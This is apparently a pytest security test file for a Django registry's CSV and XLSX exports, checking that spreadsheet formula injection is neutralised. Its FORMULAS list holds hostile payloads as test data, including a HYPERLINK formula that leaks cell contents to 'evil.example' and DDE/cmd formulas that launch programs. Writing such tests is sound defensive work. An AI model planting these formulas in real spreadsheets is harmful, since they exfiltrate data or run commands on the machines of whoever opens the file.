"""Every CSV/XLSX export of the project neutralises spreadsheet formulas where they could run: no CSV
cell read back from the generated file starts with ``= + - @`` (or a tab / carriage return before
them), and every XLSX cell is a string cell, never a formula (a string cell shows its text and runs
nothing, so it keeps the text without a prefix). The registry's CSV and XLSX exports (partners,
cooperations, blank templates) are the project's only spreadsheet exports (the HSDS export is JSON, the
resolution draft a .docx)."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from networks.exports import DANGEROUS_PREFIXES
from tests.factories.networks import ActorFactory, ActorTypeFactory, MunicipalityFactory, TargetGroupFactory
from tests.security.conftest import add_figure

FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klick\")",
    "+49 2452 13-0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
]


def _evil_actor(municipality, formula):
    group = TargetGroupFactory(name=formula[:100])
    return ActorFactory(
        municipality=municipality,
        actor_type=ActorTypeFactory(name=formula[:100]),
        name=formula, traeger_name=formula, street=formula, city=formula, phone=formula[:30],
        offer=formula, languages=formula[:200], accessibility=formula[:200], website="https://example.org/",
        target_groups=[group],
    )


@pytest.fixture
def evil_municipality(db):
    municipality = MunicipalityFactory(name="=Stadt+Formel")
    for formula in FORMULAS:
        _evil_actor(municipality, formula)
    return municipality


def _dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(DANGEROUS_PREFIXES)


def test_csv_export_cells_are_neutralised(client, evil_municipality):
    response = client.get(reverse("networks:export-csv", kwargs={"slug": evil_municipality.slug}))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    add_figure("formulas", "csv_cells_checked", len(cells))
    assert len(rows) == len(FORMULAS) + 1
    assert not [c for c in cells if _dangerous(c)]
    # The text itself is kept, readable, behind the neutralising apostrophe.
    assert "'=1+1" in cells and "'@SUM(A1:A9)" in cells


def test_xlsx_export_cells_are_neutralised(client, evil_municipality):
    response = client.get(reverse("networks:export-xlsx", kwargs={"slug": evil_municipality.slug}))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows(min_row=2) for cell in row]
    add_figure("formulas", "xlsx_cells_checked", len(cells))
    assert len(cells) >= len(FORMULAS) * 10
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if c.value and c.data_type != "s"]
    # The text itself is kept as it is, without an apostrophe (the issue: "+49 2452 13-0").
    texts = {c.value for c in cells}
    assert "+49 2452 13-0" in texts and "=1+1" in texts and not [v for v in texts if str(v).startswith("'")]


def test_the_import_removes_the_csv_prefix_again(client, koordination_user, evil_municipality):
    """Re-importing the CSV export unchanged changes nothing: the apostrophes the export added are
    not stored."""
    evil_municipality.coordinators.add(koordination_user)
    client.force_login(koordination_user)
    content = client.get(reverse("networks:export-csv", kwargs={"slug": evil_municipality.slug})).content
    upload = SimpleUploadedFile("netzwerk.csv", content)
    response = client.post(reverse("networks:import"), {"municipality": evil_municipality.pk, "file": upload})
    result = response.context["result"]
    assert result.rows and not result.row_errors
    assert (result.new, result.changed) == (0, 0)


@pytest.mark.parametrize("kind", ["partner", "kooperationen"])
def test_templates_and_cooperation_exports_are_spreadsheet_safe(client, evil_municipality, kind):
    urls = [reverse("networks:import-template", kwargs={"kind": kind, "fmt": "xlsx"})]
    if kind == "kooperationen":
        urls.append(reverse("networks:export-cooperations-xlsx", kwargs={"slug": evil_municipality.slug}))
    for url in urls:
        book = openpyxl.load_workbook(io.BytesIO(client.get(url).content))
        assert not [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_imported_formulas_are_neutralised_on_export(client, koordination_user, formula):
    """A formula arriving through the import comes out harmless."""
    municipality = MunicipalityFactory()
    municipality.coordinators.add(koordination_user)
    actor_type = ActorTypeFactory(slug="beratung")
    client.force_login(koordination_user)
    cells = ["Beratungsstelle Formel", actor_type.slug, "öffentlich", formula]
    text = "Name;Typ;Träger-Art;Angebot\n" + ";".join(csv_escape(v) for v in cells) + "\n"
    upload = SimpleUploadedFile("partner.csv", text.encode("utf-8"))
    client.post(reverse("networks:import"), {"municipality": municipality.pk, "file": upload})
    token = client.session.get("networks_import", {}).get("token")
    assert token, "the file should pass the import check"
    client.post(reverse("networks:import"), {"step": "confirm", "token": token})
    assert municipality.actors.count() == 1
    response = client.get(reverse("networks:export-csv", kwargs={"slug": municipality.slug}))
    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";") for c in row]
    assert not [c for c in cells if _dangerous(c)]


def csv_escape(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'
